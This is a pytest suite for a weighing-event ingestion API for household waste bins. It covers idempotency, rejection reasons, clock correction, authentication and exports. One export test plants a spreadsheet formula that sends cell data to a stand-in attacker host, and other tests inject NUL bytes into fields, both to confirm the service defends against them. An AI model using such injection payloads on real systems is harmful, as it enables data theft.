"""Batch ingestion through real HTTP on SQLite and PostgreSQL: idempotent, every event answered,
implausible events kept with reasons, device clocks corrected, devices authenticated."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from fastapi.testclient import TestClient

from tests.utils.pilot import Enrolled, bearer, enrol, event, staff_headers_for, upload


@pytest.fixture(scope="module")
def staff(client: TestClient) -> dict[str, str]:
    return staff_headers_for(client)


@pytest.fixture(scope="module")
def home(client: TestClient, staff: dict[str, str]) -> Enrolled:
    return enrol(client, staff, streams=("restmuell", "bio"), max_load_kg=50)


def exported(client: TestClient, staff: dict[str, str], table: str = "events") -> list[dict[str, str]]:
    r = client.get(f"/v1/staff/exports/weighings.csv?table={table}", headers=staff)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(r.text)))


def test_a_batch_is_answered_per_event_and_resending_it_changes_nothing(client, staff, home) -> None:
    events = [event(home, net_kg=0.8 + i / 10) for i in range(5)] + [event(home, "bio", net_kg=2.0)]
    first = upload(client, home, events)
    assert first.status_code == 200, first.text
    assert first.json()["accepted"] == 6 and [r["status"] for r in first.json()["results"]] == ["accepted"] * 6
    again = upload(client, home, events + events[:2])  # a lost answer, and the same ids twice in one batch
    assert again.json()["accepted"] == 0 and again.json()["duplicates"] == 8
    rows = [r for r in exported(client, staff) if r["household"] == home.household]
    assert sorted(r["event_id"] for r in rows) == sorted(e["id"] for e in events)
    weekly = {
        (r["stream"]): float(r["kg"]) for r in exported(client, staff, "weekly") if r["household"] == home.household
    }
    assert weekly["restmuell"] == pytest.approx(sum(0.8 + i / 10 for i in range(5)))
    assert weekly["bio"] == pytest.approx(2.0)


def test_poison_events_are_answered_one_by_one_never_a_500(client, staff) -> None:
    """Each of these made the whole batch 500 or 422, and an agent resends such a batch forever."""
    home = enrol(client, staff)
    good = event(home)
    no_id = [{k: v for k, v in event(home, net_kg=n).items() if k != "id"} for n in (1.0, 2.0)]
    nul = [event(home, id="nul\x00id-0001"), event(home, bin="bin\x00x"), event(home, firmware="fw\x00")]
    batch = [no_id[0], 42, "text", nul[0], nul[1], nul[2], good]
    r = upload(client, home, batch)
    assert r.status_code == 200, r.text
    results = r.json()["results"]
    assert [x["status"] for x in results] == ["rejected"] * 5 + ["accepted"] * 2, results  # a NUL firmware is stripped
    # Another batch's event without an id at the same position: its own row, not a unique-key 500.
    again = upload(client, home, [no_id[1]]).json()["results"][0]
    assert again["status"] == "rejected" and again["id"] != results[0]["id"]
    assert upload(client, home, [no_id[0]]).json()["results"][0] == results[0]  # the same one: the same answer
    # sent_at in year 1 and measured_at in 9999: out of range after clock correction, not an overflow.
    far = event(home, at=dt.datetime(9999, 12, 31, tzinfo=dt.UTC))
    r = upload(client, home, [far], sent_at=dt.datetime(1, 1, 2, tzinfo=dt.UTC))
    assert r.status_code == 200 and r.json()["results"][0]["status"] == "rejected", r.text
    devices = client.get("/v1/staff/devices", headers=staff).json()
    assert "\x00" not in next(d for d in devices if d["id"] == home.device)["firmware"]


def test_event_ids_belong_to_their_device_and_a_conflicting_resend_is_kept(client, staff) -> None:
    a, b = enrol(client, staff), enrol(client, staff)
    shared = "scale-made-0001"  # two devices after the same factory reset: the same first id
    assert upload(client, a, [event(a, id=shared, net_kg=1.0)]).json()["accepted"] == 1
    assert upload(client, b, [event(b, id=shared, net_kg=2.0)]).json()["accepted"] == 1  # not b's duplicate
    rows = [r for r in exported(client, staff) if r["event_id"] == shared]
    assert {(r["device"], float(r["net_kg"])) for r in rows} == {(a.device, 1.0), (b.device, 2.0)}

    original = event(a, id="scale-made-0002", net_kg=1.5)
    assert upload(client, a, [original]).json()["accepted"] == 1
    assert upload(client, a, [original]).json()["duplicates"] == 1  # a resend: nothing changes
    other = {**original, "net_kg": 3.0}  # same id, other content: was answered "duplicate" and lost
    answer = upload(client, a, [other]).json()["results"][0]
    assert answer["status"] == "rejected" and "other content" in answer["reasons"][0]
    assert upload(client, a, [other]).json()["results"][0] == answer  # kept once, the same answer
    pending = client.get("/v1/staff/weighings/rejected", headers=staff).json()
    assert any(r["event_id"] == "scale-made-0002" and r["payload"]["net_kg"] == 3.0 for r in pending)

    body = {"reason": "test"}
    assert client.post(f"/v1/staff/weighings/{shared}/void", json=body, headers=staff).status_code == 409
    r = client.post(f"/v1/staff/weighings/{shared}/void", params={"device": b.device}, json=body, headers=staff)
    assert r.status_code == 200 and r.json()["device"] == b.device


def test_a_weighing_from_before_its_bin_was_in_service_is_rejected(client, staff) -> None:
    home = enrol(client, staff)  # in service for a year (tests/utils/pilot.enrol)
    early = event(home, at=dt.datetime.now(dt.UTC) - dt.timedelta(days=370))
    reasons = upload(client, home, [early]).json()["results"][0]["reasons"]
    assert any("before bin" in r and "was in service" in r for r in reasons), reasons


def test_the_export_keeps_formulas_as_text(client, staff, home) -> None:
    evil = event(home, firmware='=HYPERLINK("http://evil.example/?"&A1,"update")')
    assert upload(client, home, [evil]).json()["accepted"] == 1
    row = next(r for r in exported(client, staff) if r["event_id"] == evil["id"])
    assert row["firmware"] == "'" + evil["firmware"]  # a spreadsheet shows it, never runs it
    assert float(row["net_kg"]) == 1.25


def test_implausible_events_are_rejected_with_reasons_kept_once_and_can_be_retried(client, staff, home) -> None:
    other = enrol(client, staff)
    now = dt.datetime.now(dt.UTC)
    cases = {
        "negative": event(home, net_kg=-0.4),
        "overload": event(home, net_kg=3, gross_kg=75),
        "future": event(home, at=now + dt.timedelta(days=2)),
        "unknown bin": event(home, bin="bin-not-yet-registered"),
        "stream": {**event(home), "stream": "papier"},
        "foreign bin": event(home, bin=other.bins["restmuell"]),
        "malformed": {"id": "malformed-0001", "device": home.device, "net_kg": "heavy"},
        "emptying up": event(home, kind="emptying", net_kg=1.0),
    }
    r = upload(client, home, list(cases.values()))
    results = {res["id"]: res for res in r.json()["results"]}
    reasons = {name: " ".join(results[e["id"]]["reasons"]) for name, e in cases.items()}
    assert all(results[e["id"]]["status"] == "rejected" for e in cases.values())
    assert "net_kg > 0" in reasons["negative"]
    assert "maximum load of 50 kg" in reasons["overload"]
    assert "future" in reasons["future"]
    assert "unknown bin" in reasons["unknown bin"]
    assert "collects 'restmuell', not 'papier'" in reasons["stream"]
    assert "another device" in reasons["foreign bin"]
    assert "net_kg" in reasons["malformed"] and "measured_at" in reasons["malformed"]
    assert "must remove weight" in reasons["emptying up"]

    assert upload(client, home, list(cases.values())).json()["rejected"] == len(cases)  # resent: same answers
    pending = [
        p for p in client.get("/v1/staff/weighings/rejected", headers=staff).json() if p["device"] == home.device
    ]
    assert sorted(p["event_id"] for p in pending) == sorted(e["id"] for e in cases.values())

    # Staff register the missing bin, then check the event again: now it counts.
    r = client.post(
        "/v1/staff/bins",
        headers=staff,
        json={
            "id": "bin-not-yet-registered",
            "household": home.household,
            "device": home.device,
            "stream": "restmuell",
        },
    )
    assert r.status_code == 201
    kept = next(p for p in pending if p["event_id"] == cases["unknown bin"]["id"])
    r = client.post(f"/v1/staff/weighings/rejected/{kept['id']}/review", json={"action": "retry"}, headers=staff)
    assert r.json()["status"] == "accepted"
    assert cases["unknown bin"]["id"] in {row["event_id"] for row in exported(client, staff)}
    negative = next(p for p in pending if p["event_id"] == cases["negative"]["id"])
    r = client.post(f"/v1/staff/weighings/rejected/{negative['id']}/review", json={"action": "dismiss"}, headers=staff)
    assert r.status_code == 200
    dismissed = client.get("/v1/staff/weighings/rejected?status=dismissed", headers=staff).json()
    assert negative["id"] in {d["id"] for d in dismissed}


def test_device_clock_skew_is_corrected(client, staff, home) -> None:
    now = dt.datetime.now(dt.UTC)
    behind = now - dt.timedelta(days=400)  # a Pi that booted without network time
    late = event(home, at=behind - dt.timedelta(minutes=10))
    r = upload(client, home, [late], sent_at=behind)
    assert r.json()["accepted"] == 1 and r.json()["clock_offset_s"] == pytest.approx(400 * 86400, abs=60)
    ahead = now + dt.timedelta(hours=3)
    early = event(home, at=ahead - dt.timedelta(seconds=30))  # "future" on the device's clock only
    r = upload(client, home, [early], sent_at=ahead)
    assert r.json()["accepted"] == 1
    rows = {row["event_id"]: row for row in exported(client, staff)}
    for e, offset in ((late, dt.timedelta(minutes=10)), (early, dt.timedelta(seconds=30))):
        measured = dt.datetime.fromisoformat(rows[e["id"]]["measured_at"])
        assert abs((measured - (now - offset)).total_seconds()) < 60
    device = next(d for d in client.get("/v1/staff/devices", headers=staff).json() if d["id"] == home.device)
    assert device["clock_offset_s"] == pytest.approx(-3 * 3600, abs=60)
    assert device["firmware"] == "zerowaste-edge test" and set(home.bins.values()) <= set(device["bins"])


def test_uploads_need_a_registered_device_key(client, staff, home) -> None:
    body = {"sent_at": dt.datetime.now(dt.UTC).isoformat(), "events": [event(home)]}
    assert client.post("/v1/weighings/batch", json=body).status_code == 401
    assert client.post("/v1/weighings/batch", json=body, headers=bearer("zw_forged")).status_code == 401
    assert client.post("/v1/weighings/batch", json=body, headers=staff).status_code == 403
    assert client.post("/v1/weighings/batch", json=body, headers=home.household_headers).status_code == 403
    too_many = {"sent_at": body["sent_at"], "events": [event(home) for _ in range(501)]}
    assert client.post("/v1/weighings/batch", json=too_many, headers=home.device_headers).status_code == 413
    naive = {"sent_at": "2026-11-22T10:00:00", "events": []}
    assert client.post("/v1/weighings/batch", json=naive, headers=home.device_headers).status_code == 422


def test_staff_registration_errors_are_clear(client, staff, home) -> None:
    assert client.post("/v1/staff/devices", json={"id": home.device}, headers=staff).status_code == 409
    r = client.post("/v1/staff/households", json={"neighbourhood": "barmen-mitte"}, headers=staff)
    assert r.status_code == 422 and "arrenberg" in r.json()["detail"] and "wichlinghausen" in r.json()["detail"]
    bad = {"id": "bin-x", "household": home.household, "device": home.device, "stream": "gold"}
    assert "unknown stream" in client.post("/v1/staff/bins", json=bad, headers=staff).json()["detail"]
    assert client.post("/v1/staff/devices", json={"id": "x"}, headers=home.device_headers).status_code == 403


def test_ngsi_ld_export_describes_each_bin_as_a_waste_container(client, staff) -> None:
    home = enrol(client, staff, neighbourhood="wichlinghausen", streams=("restmuell", "papier"))
    t0 = dt.datetime.now(dt.UTC) - dt.timedelta(hours=5)
    upload(
        client,
        home,
        [
            event(home, at=t0, net_kg=2.0, gross_kg=2.0),
            event(home, at=t0 + dt.timedelta(hours=1), net_kg=1.5, gross_kg=3.5),
            event(home, at=t0 + dt.timedelta(hours=2), kind="emptying", net_kg=-3.45, gross_kg=0.05),
            event(home, "papier", at=t0, net_kg=0.7, gross_kg=0.7),
        ],
    )
    r = client.get("/v1/staff/exports/ngsi-ld", headers=staff)
    assert r.status_code == 200 and r.headers["content-type"].startswith("application/ld+json")
    entities = {e["id"]: e for e in r.json()}
    rest = entities[f"urn:ngsi-ld:WasteContainer:wuppertal:{home.bins['restmuell']}"]
    assert rest["type"] == "WasteContainer"
    assert rest["cargoWeight"]["value"] == pytest.approx(0.05) and rest["cargoWeight"]["unitCode"] == "KGM"
    assert rest["dateLastEmptying"]["value"]["@value"].startswith((t0 + dt.timedelta(hours=2)).strftime("%Y-%m-%dT%H"))
    assert rest["storedWasteKind"]["value"] == ["other"] and rest["storedWasteOrigin"]["value"] == "household"
    assert rest["location"]["value"]["coordinates"] == [7.2295, 51.2775]  # the quarter's centre, not a house
    assert rest["refDevice"]["object"].endswith(home.device)
    paper = entities[f"urn:ngsi-ld:WasteContainer:wuppertal:{home.bins['papier']}"]
    assert paper["storedWasteKind"]["value"] == ["paper"] and "dateLastEmptying" not in paper
    assert all(e["@context"] for e in entities.values())
    assert client.get("/v1/staff/exports/ngsi-ld", headers=home.device_headers).status_code == 403
